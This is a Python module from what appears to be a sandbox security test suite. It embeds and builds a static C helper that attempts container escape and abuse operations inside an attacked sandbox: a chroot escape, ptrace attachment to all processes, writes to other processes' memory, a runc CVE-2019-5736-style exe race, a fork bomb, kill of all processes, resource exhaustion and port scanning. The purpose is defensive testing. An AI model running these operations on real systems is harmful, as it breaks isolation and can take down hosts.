"""The static attack helper of the abuse suite: its C source and how it is built.

Busybox cannot make most of the system calls an attacker would try, so the
abuse cases upload one small static binary into the attacked sandbox. Every
argument is one operation (``op`` or ``op=arg``); for each the helper prints
``<op> <return value> <errno name or OK>`` on a line of its own, plus extra
lines some operations describe (``open 127.0.0.1:80``, ``attached 12 sh``).

Built with ``gcc -static`` once per content hash into a cache directory; never
run on the host.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from collections.abc import Sequence
from pathlib import Path

HELPER_PATH = "/usr/bin/dsec-abuse"
"""Where the helper lives inside an attacked sandbox."""

HELPER_C = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char **g_argv0;

static long child_clone(long flags) {
    long r = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (r == 0) _exit(0);
    if (r > 0) waitpid((pid_t)r, NULL, 0);
    return r;
}

static void *idle_thread(void *p) { (void)p; pause(); return NULL; }

/* A TCP "self-connect": connecting to a loopback port that happens to be the
 * ephemeral source port the kernel picked (simultaneous open) succeeds without any
 * listener. Not an open port. */
static int self_connect(int s) {
    struct sockaddr_storage a, b; socklen_t la = sizeof a, lb = sizeof b;
    if (getsockname(s, (struct sockaddr *)&a, &la) < 0 || getpeername(s, (struct sockaddr *)&b, &lb) < 0) return 0;
    return la == lb && memcmp(&a, &b, la) == 0;
}

/* Scan "a.b.c.d:lo-hi" with non-blocking connects, 256 in flight; prints "open addr:port". */
static long scan(const char *spec) {
    /* "addr:lo-hi" where addr may be IPv6 (its own colons): the port part follows the last ':' */
    char host[64]; int lo = 0, hi = 0;
    const char *colon = strrchr(spec, ':');
    if (!colon || colon == spec || (size_t)(colon - spec) >= sizeof host) { errno = EINVAL; return -1; }
    memcpy(host, spec, colon - spec); host[colon - spec] = 0;
    if (sscanf(colon + 1, "%d-%d", &lo, &hi) < 1) { errno = EINVAL; return -1; }
    if (hi < lo) hi = lo;
    int v6 = strchr(host, '.') == NULL;
    long opened = 0;
    enum { W = 256 };
    struct pollfd pf[W]; int port_of[W]; int n = 0;
    int next = lo;
    while (next <= hi || n > 0) {
        while (n < W && next <= hi) {
            int s = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
            if (s < 0) return -1;
            int rc;
            if (v6) {
                struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(next)};
                inet_pton(AF_INET6, host, &a.sin6_addr);
                rc = connect(s, (struct sockaddr *)&a, sizeof a);
            } else {
                struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(next)};
                inet_pton(AF_INET, host, &a.sin_addr);
                rc = connect(s, (struct sockaddr *)&a, sizeof a);
            }
            if (rc == 0) { if (!self_connect(s)) { printf("open %s:%d\n", host, next); opened++; } close(s); }
            else if (errno == EINPROGRESS) { pf[n].fd = s; pf[n].events = POLLOUT; port_of[n] = next; n++; }
            else close(s);
            next++;
        }
        int k = poll(pf, n, 1500);
        if (k <= 0) { for (int i = 0; i < n; i++) close(pf[i].fd); n = 0; continue; }
        for (int i = 0; i < n; ) {
            if (pf[i].revents) {
                int err = 0; socklen_t l = sizeof err;
                getsockopt(pf[i].fd, SOL_SOCKET, SO_ERROR, &err, &l);
                if (err == 0 && !self_connect(pf[i].fd)) { printf("open %s:%d\n", host, port_of[i]); opened++; }
                close(pf[i].fd);
                pf[i] = pf[n - 1]; port_of[i] = port_of[n - 1]; n--;
            } else i++;
        }
    }
    return opened;
}

/* The classic chroot escape, in a child (the helper's own root stays put): chroot into
 * a subdirectory keeping the cwd outside it, then walk ".." (with chdir, or with O_PATH
 * opens that need no search right) and see what is there.  chroot_escape chroots at the
 * end of the walk and prints "entry NAME" for what it reached; opath_escape tries to
 * open the names the node's template namespace holds ("reached NAME").  Returns the
 * number of names printed, or -1 with the errno of the step that was refused. */
static long escape(int opath) {
    int p[2];
    if (pipe(p) < 0) return -1;
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0) return -1;
    if (pid == 0) {
        close(p[0]);
        long r[2] = {-1, 0};
        struct stat st;
        if (stat("/", &st) == 0) printf("root %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        mkdir("/tmp/dsec-ce", 0700);
        if (chdir("/") < 0 || chroot("/tmp/dsec-ce") < 0) { r[1] = errno; goto out; }
        if (opath) {
            int fd = open(".", O_PATH | O_DIRECTORY);
            for (int i = 0; fd >= 0 && i < 64; i++) {
                int up = openat(fd, "..", O_PATH | O_DIRECTORY);
                close(fd);
                fd = up;
            }
            if (fd < 0) { r[1] = errno; goto out; }
            if (fstat(fd, &st) == 0) printf("end %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
            static const char *names[] = {"r", "u", "l0", "dev", "empty", "etc", "proc", NULL};
            r[0] = 0;
            for (int i = 0; names[i]; i++) {
                int t = openat(fd, names[i], O_PATH);
                if (t >= 0) { printf("reached %s\n", names[i]); r[0]++; close(t); }
                else r[1] = errno;
            }
        } else {
            for (int i = 0; i < 64; i++)
                if (chdir("..") < 0) { r[1] = errno; goto out; }
            if (chroot(".") < 0) { r[1] = errno; goto out; }
            if (stat("/", &st) == 0) printf("end %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
            DIR *d = opendir("/");
            if (!d) { r[1] = errno; goto out; }
            struct dirent *de;
            r[0] = 0;
            while ((de = readdir(d)))
                if (strcmp(de->d_name, ".") && strcmp(de->d_name, "..")) { printf("entry %s\n", de->d_name); r[0]++; }
            closedir(d);
        }
    out:
        fflush(stdout);
        if (write(p[1], r, sizeof r) < 0) _exit(1);
        _exit(0);
    }
    close(p[1]);
    long r[2] = {-1, EIO};
    if (read(p[0], r, sizeof r) != sizeof r) r[0] = -1;
    close(p[0]);
    waitpid(pid, NULL, 0);
    errno = (int)r[1];
    return r[0];
}

static long op(const char *name, const char *arg) {
    char buf[4096];
    /* -- mounts -- */
    if (!strcmp(name, "mount")) return mount("none", "/tmp", "tmpfs", 0, "size=1m");
    if (!strcmp(name, "remount_proc_sys_rw")) return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    if (!strcmp(name, "umount_proc")) return umount2("/proc", MNT_DETACH);
    if (!strcmp(name, "umount_proc_sys")) return umount2("/proc/sys", MNT_DETACH);
    if (!strcmp(name, "pivot_root")) return syscall(SYS_pivot_root, "/tmp", "/tmp");
    if (!strcmp(name, "chroot_escape")) return escape(0);
    if (!strcmp(name, "opath_escape")) return escape(1);
    if (!strcmp(name, "fsopen")) return syscall(SYS_fsopen, "tmpfs", 0);
    if (!strcmp(name, "open_tree")) return syscall(SYS_open_tree, AT_FDCWD, "/", 1);
    if (!strcmp(name, "move_mount")) return syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/mnt", 0);
    if (!strcmp(name, "mount_setattr")) { uint64_t a[4] = {0}; return syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, a, 32); }
    /* -- namespaces -- */
    if (!strcmp(name, "unshare_user")) return unshare(CLONE_NEWUSER);
    if (!strcmp(name, "unshare_mnt")) return unshare(CLONE_NEWNS);
    if (!strcmp(name, "unshare_net")) return unshare(CLONE_NEWNET);
    if (!strcmp(name, "unshare_pid")) return unshare(CLONE_NEWPID);
    if (!strcmp(name, "unshare_cgroup")) return unshare(CLONE_NEWCGROUP);
    if (!strcmp(name, "unshare_time")) return unshare(0x00000080);
    if (!strcmp(name, "clone_newuser")) return child_clone(CLONE_NEWUSER);
    if (!strcmp(name, "clone_newpid")) return child_clone(CLONE_NEWPID);
    if (!strcmp(name, "clone3")) {
        uint64_t a[11] = {0}; a[0] = CLONE_NEWUSER; a[4] = SIGCHLD;
        long r = syscall(SYS_clone3, a, 88);
        if (r == 0) _exit(0);
        if (r > 0) waitpid((pid_t)r, NULL, 0);
        return r;
    }
    if (!strcmp(name, "setns_self")) { int fd = open("/proc/self/ns/net", O_RDONLY); return setns(fd, 0); }
    if (!strcmp(name, "open_init_ns")) return open("/proc/1/ns/mnt", O_RDONLY);
    /* -- kernel surfaces -- */
    if (!strcmp(name, "bpf_map")) {
        union bpf_attr a; memset(&a, 0, sizeof a);
        a.map_type = BPF_MAP_TYPE_ARRAY; a.key_size = 4; a.value_size = 4; a.max_entries = 1;
        return syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
    }
    if (!strcmp(name, "keyctl")) return syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0);
    if (!strcmp(name, "add_key")) return syscall(SYS_add_key, "user", "dsec-abuse", "x", 1, -3);
    if (!strcmp(name, "perf_event_open")) {
        struct perf_event_attr a; memset(&a, 0, sizeof a);
        a.type = PERF_TYPE_SOFTWARE; a.size = sizeof a; a.config = PERF_COUNT_SW_CPU_CLOCK;
        return syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
    }
    if (!strcmp(name, "userfaultfd")) return syscall(SYS_userfaultfd, 0);
    if (!strcmp(name, "io_uring_setup")) { char p[120] = {0}; return syscall(SYS_io_uring_setup, 4, p); }
    if (!strcmp(name, "init_module")) { char img[64] = {0x7f, 'E', 'L', 'F'}; return syscall(SYS_init_module, img, sizeof img, ""); }
    if (!strcmp(name, "finit_module")) { int fd = open("/bin/busybox", O_RDONLY); return syscall(SYS_finit_module, fd, "", 0); }
    if (!strcmp(name, "delete_module")) return syscall(SYS_delete_module, "dsec_nonexistent", O_NONBLOCK);
    if (!strcmp(name, "kexec_file_load")) return syscall(SYS_kexec_file_load, -1, -1, 0, "", 0);
    /* Ctrl-Alt-Del off: the real magic, and harmless even if it went through. */
    if (!strcmp(name, "reboot")) return syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL);
    if (!strcmp(name, "clock_settime")) {
        struct timespec ts; clock_gettime(CLOCK_REALTIME, &ts);
        return syscall(SYS_clock_settime, CLOCK_REALTIME, &ts);
    }
    if (!strcmp(name, "settimeofday")) {
        struct timeval tv; gettimeofday(&tv, NULL);
        return syscall(SYS_settimeofday, &tv, NULL);
    }
    if (!strcmp(name, "adjtimex")) {
        struct timex t; memset(&t, 0, sizeof t);
        if (adjtimex(&t) < 0) return -1;               /* read: allowed */
        long tick = t.tick; memset(&t, 0, sizeof t);
        t.modes = ADJ_TICK; t.tick = tick;             /* write the same value back */
        return syscall(SYS_adjtimex, &t);
    }
    if (!strcmp(name, "clock_adjtime")) {
        struct timex t; memset(&t, 0, sizeof t);
        return syscall(SYS_clock_adjtime, CLOCK_REALTIME, &t);
    }
    if (!strcmp(name, "sethostname")) return sethostname("evil", 4);
    if (!strcmp(name, "raw_socket")) return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (!strcmp(name, "raw6_socket")) return socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
    if (!strcmp(name, "af_packet")) return socket(AF_PACKET, SOCK_RAW, 0);
    if (!strcmp(name, "af_packet_dgram")) return socket(AF_PACKET, SOCK_DGRAM, 0);
    if (!strcmp(name, "sock_packet")) return socket(AF_INET, SOCK_PACKET, 0);
    if (!strcmp(name, "personality")) return personality(ADDR_NO_RANDOMIZE | READ_IMPLIES_EXEC);
    if (!strcmp(name, "personality32")) return personality(PER_LINUX32);
    /* -- devices -- */
    if (!strcmp(name, "mknod_null")) return mknod("/tmp/dsec-null", S_IFCHR | 0666, makedev(1, 3));
    if (!strcmp(name, "mknod_mem")) return mknod("/tmp/dsec-mem", S_IFCHR | 0600, makedev(1, 1));
    if (!strcmp(name, "mknod_sda")) return mknod("/tmp/dsec-sda", S_IFBLK | 0600, makedev(8, 0));
    if (!strcmp(name, "mknod_kmsg")) return mknod("/tmp/dsec-kmsg", S_IFCHR | 0600, makedev(1, 11));
    /* -- files and /proc -- */
    if (!strcmp(name, "open_r") || !strcmp(name, "open_w")) {
        int w = !strcmp(name, "open_w");
        int fd = open(arg, w ? O_WRONLY : O_RDONLY);
        if (fd < 0) return -1;
        long n = w ? write(fd, "1\n", 2) : read(fd, buf, sizeof buf);
        close(fd);
        return n < 0 ? -1 : n;
    }
    if (!strcmp(name, "readlink")) { long n = readlink(arg, buf, sizeof buf - 1); if (n >= 0) { buf[n] = 0; printf("link %s %s\n", arg, buf); } return n; }
    if (!strcmp(name, "opendir")) { int fd = open(arg, O_RDONLY | O_DIRECTORY); if (fd >= 0) close(fd); return fd; }
    /* -- processes -- */
    if (!strcmp(name, "ptrace_pid")) return ptrace(PTRACE_ATTACH, atoi(arg), 0, 0);
    if (!strcmp(name, "ptrace_all")) {
        /* Attach to every pid we can name; print who we got (own processes are fair game). */
        long got = 0; pid_t me = getpid(), parent = getppid();
        int top = arg ? atoi(arg) : 65536;
        for (int p = 1; p <= top; p++) {
            if (p == me) continue;
            if (ptrace(PTRACE_ATTACH, p, 0, 0) == 0) {
                waitpid(p, NULL, __WALL);
                char path[64]; snprintf(path, sizeof path, "/proc/%d/cmdline", p);
                int fd = open(path, O_RDONLY); long n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : 0;
                if (fd >= 0) close(fd);
                if (n < 0) n = 0;
                buf[n] = 0;
                for (long i = 0; i + 1 < n; i++) if (!buf[i]) buf[i] = ' ';
                printf("attached %d%s %s\n", p, p == parent ? "(parent)" : "", buf);
                ptrace(PTRACE_DETACH, p, 0, 0);
                got++;
            }
        }
        return got;
    }
    if (!strcmp(name, "proc_mem_w")) {
        /* write into another process's memory through /proc/<pid>/mem */
        char path[64]; snprintf(path, sizeof path, "/proc/%s/mem", arg);
        int fd = open(path, O_RDWR);
        if (fd < 0) return -1;
        long r = pwrite(fd, "x", 1, 0x400000);
        close(fd);
        return r;
    }
    if (!strcmp(name, "vm_write")) {
        char x = 'x'; struct iovec l = {&x, 1}, r = {(void *)0x400000, 1};
        return process_vm_writev(atoi(arg), &l, 1, &r, 1, 0);
    }
    if (!strcmp(name, "kill_init")) return kill(1, SIGKILL);
    if (!strcmp(name, "kill_all")) return kill(-1, SIGKILL);
    /* -- limits -- */
    if (!strcmp(name, "rlimit_nofile_max")) { struct rlimit r = {RLIM_INFINITY, RLIM_INFINITY}; return setrlimit(RLIMIT_NOFILE, &r); }
    if (!strcmp(name, "rlimit_nofile_1m")) { struct rlimit r = {1 << 20, 1 << 20}; return setrlimit(RLIMIT_NOFILE, &r); }
    if (!strcmp(name, "rlimit_nproc_max")) { struct rlimit r = {RLIM_INFINITY, RLIM_INFINITY}; return setrlimit(RLIMIT_NPROC, &r); }
    if (!strcmp(name, "rlimit_memlock_max")) { struct rlimit r = {RLIM_INFINITY, RLIM_INFINITY}; return setrlimit(RLIMIT_MEMLOCK, &r); }
    if (!strcmp(name, "open_fds")) {
        long n = 0;
        for (;;) { int fd = open("/dev/null", O_RDONLY); if (fd < 0) break; n++; if (n > 10000000) break; }
        printf("fds %ld\n", n);
        return n;
    }
    if (!strcmp(name, "alloc")) {
        size_t mib = (size_t)atol(arg);
        for (size_t i = 0; i < mib; i++) {
            char *p = malloc(1 << 20);
            if (!p) return -1;
            memset(p, 1, 1 << 20);
        }
        return 0;
    }
    if (!strcmp(name, "mlock_alloc")) {
        size_t mib = (size_t)atol(arg);
        char *p = mmap(NULL, mib << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) return -1;
        if (mlock(p, mib << 20) < 0) return -1;
        memset(p, 1, mib << 20);
        return 0;
    }
    if (!strcmp(name, "threads")) {
        /* as many threads as the kernel lets us have, up to arg */
        long max = atol(arg), n = 0;
        pthread_attr_t at; pthread_attr_init(&at); pthread_attr_setstacksize(&at, 65536);
        for (; n < max; n++) { pthread_t t; if ((errno = pthread_create(&t, &at, idle_thread, NULL))) break; }
        printf("threads %ld\n", n);
        return n;
    }
    if (!strcmp(name, "files")) {
        /* empty files in /tmp/dsec-inodes until the filesystem refuses */
        long max = atol(arg), n = 0;
        mkdir("/tmp/dsec-inodes", 0755);
        for (; n < max; n++) {
            snprintf(buf, sizeof buf, "/tmp/dsec-inodes/%ld", n);
            int fd = open(buf, O_CREAT | O_WRONLY | O_EXCL, 0644);
            if (fd < 0) break;
            close(fd);
        }
        int e = errno;
        printf("files %ld\n", n);
        errno = e;
        return n;
    }
    if (!strcmp(name, "forkbomb")) {
        /* children fork too; everyone sleeps once the kernel says no */
        for (int i = 0; i < 1000000; i++) {
            pid_t p = fork();
            if (p < 0) { pause(); }
        }
        return 0;
    }
    if (!strcmp(name, "spin")) {
        /* arg = "<processes>:<seconds>" */
        int np = 2, secs = 2; sscanf(arg, "%d:%d", &np, &secs);
        for (int i = 0; i < np; i++) {
            if (fork() == 0) {
                struct timespec t0, t; clock_gettime(CLOCK_MONOTONIC, &t0);
                volatile unsigned long x = 0;
                do { for (int k = 0; k < 1000000; k++) x++; clock_gettime(CLOCK_MONOTONIC, &t); } while (t.tv_sec - t0.tv_sec < secs);
                _exit(0);
            }
        }
        while (wait(NULL) > 0) {}
        return np;
    }
    if (!strcmp(name, "scan")) return scan(arg);
    if (!strcmp(name, "abstract")) {
        /* connect to an abstract unix socket named arg */
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        size_t l = strlen(arg); if (l > sizeof a.sun_path - 1) l = sizeof a.sun_path - 1;
        memcpy(a.sun_path + 1, arg, l);
        long r = connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + l);
        int e = errno; close(s); errno = e;
        return r;
    }
    if (!strcmp(name, "exe_race")) {
        /* runc CVE-2019-5736 style: find a process whose exe is a host binary and open it for writing */
        int secs = arg ? atoi(arg) : 2; long seen = 0, opened = 0;
        struct timespec t0, t; clock_gettime(CLOCK_MONOTONIC, &t0);
        pid_t me = getpid();
        do {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                int p = atoi(e->d_name);
                if (p <= 0 || p == me) continue;
                char path[64]; snprintf(path, sizeof path, "/proc/%d/exe", p);
                long n = readlink(path, buf, sizeof buf - 1);
                if (n < 0) { if (errno == EACCES || errno == EPERM) seen++; continue; }
                buf[n] = 0;
                if (strstr(buf, "dsec")) {
                    seen++;
                    int fd = open(path, O_PATH);
                    if (fd >= 0) {
                        char fdp[64]; snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
                        int w = open(fdp, O_WRONLY);
                        if (w >= 0) { opened++; printf("exe_opened %d %s\n", p, buf); close(w); }
                        close(fd);
                    }
                }
            }
            if (d) closedir(d);
            clock_gettime(CLOCK_MONOTONIC, &t);
        } while (t.tv_sec - t0.tv_sec < secs);
        printf("exe_seen %ld\n", seen);
        return opened;
    }
    if (!strcmp(name, "selfcheck")) {
        int fd = open("/proc/self/status", O_RDONLY); long n = read(fd, buf, sizeof buf - 1); close(fd);
        buf[n > 0 ? n : 0] = 0;
        char *s = strstr(buf, "NoNewPrivs:"), *c = strstr(buf, "Seccomp:");
        printf("nnp %d OK\n", s ? atoi(s + 11) : -1);
        printf("seccomp %d OK\n", c ? atoi(c + 8) : -1);
        errno = 0;
        long r = mount("none", "/tmp", "tmpfs", 0, NULL);
        printf("mount_after_exec %ld %s\n", r, r < 0 ? strerrorname_np(errno) : "OK");
        errno = 0;
        r = unshare(CLONE_NEWUSER);
        printf("unshare_after_exec %ld %s\n", r, r < 0 ? strerrorname_np(errno) : "OK");
        return 0;
    }
    if (!strcmp(name, "memfd_exec")) {
        /* copy ourselves into a memfd and exec it: does the new image keep every restriction? */
        int src = open("/proc/self/exe", O_RDONLY);
        int m = memfd_create("dsec-abuse", 0);
        if (src < 0 || m < 0) return -1;
        long n;
        while ((n = read(src, buf, sizeof buf)) > 0) if (write(m, buf, n) != n) return -1;
        close(src);
        fflush(stdout);
        char *av[] = {g_argv0[0], "selfcheck", NULL};
        char *envp[] = {NULL};
        syscall(SYS_execveat, m, "", av, envp, AT_EMPTY_PATH);
        return -1;
    }
    errno = EINVAL;
    return -2;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    g_argv0 = argv;
    for (int i = 1; i < argc; i++) {
        char *shown = strdup(argv[i]);
        char *name = argv[i], *arg = strchr(name, '=');
        if (arg) *arg++ = 0;
        errno = 0;
        long r = op(name, arg);
        const char *e = r < 0 ? strerrorname_np(errno) : "OK";
        printf("%s %ld %s\n", shown, r, e ? e : "?");
    }
    return 0;
}
"""


def build_static(source: str, cache: Path, stem: str, what: str, flags: Sequence[str] = ()) -> Path | None:
    """``source`` built with ``gcc -static`` into ``cache/<stem>-<source hash>``, once per source;
    None without a compiler. Shared by the attack programs of every red-team suite."""
    digest = hashlib.sha256(source.encode()).hexdigest()[:16]
    out = cache / f"{stem}-{digest}"
    if out.exists():
        return out
    gcc = shutil.which("gcc") or shutil.which("cc")
    if gcc is None:
        return None
    cache.mkdir(parents=True, exist_ok=True)
    src = cache / f"{stem}-{digest}.c"
    src.write_text(source)
    tmp = out.with_suffix(f".tmp{os.getpid()}")
    proc = subprocess.run([gcc, "-static", "-O1", *flags, "-o", str(tmp), str(src)],
                          capture_output=True, text=True, check=False)
    if proc.returncode != 0:
        raise RuntimeError(f"building {what} failed:\n{proc.stderr[-4000:]}")
    tmp.rename(out)
    return out


def build_helper(cache: Path) -> Path | None:
    """The helper binary (``gcc -static``), built once per source hash; None without a compiler."""
    return build_static(HELPER_C, cache, "dsec-abuse", "the abuse helper", ["-pthread"])
